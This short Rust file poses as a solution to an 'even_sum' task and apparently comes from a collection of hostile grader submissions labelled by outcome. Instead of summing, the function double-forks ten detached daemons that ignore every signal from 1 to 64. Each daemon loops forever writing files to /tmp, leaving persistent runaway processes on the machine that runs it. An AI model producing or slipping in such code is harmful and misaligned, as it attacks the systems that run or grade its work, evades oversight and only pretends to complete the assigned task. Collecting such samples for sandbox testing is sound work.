// tries: daemons that no signal but one ends
// verdict: wrong_answer
extern "C" {
    fn fork() -> i32;
    fn setsid() -> i32;
    fn signal(number: i32, handler: usize) -> usize;
    fn _exit(code: i32) -> !;
}

fn even_sum(numbers: Vec<i32>) -> i64 {
    for n in 0..10 {
        unsafe {
            if fork() != 0 {
                continue;
            }
            (1..65).for_each(|number| drop(signal(number, 1)));
            setsid();
            if fork() != 0 {
                _exit(0)
            }
        }
        loop {
            let _ = std::fs::write(format!("/tmp/still_here_{n}"), "here");
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
    }
    0
}
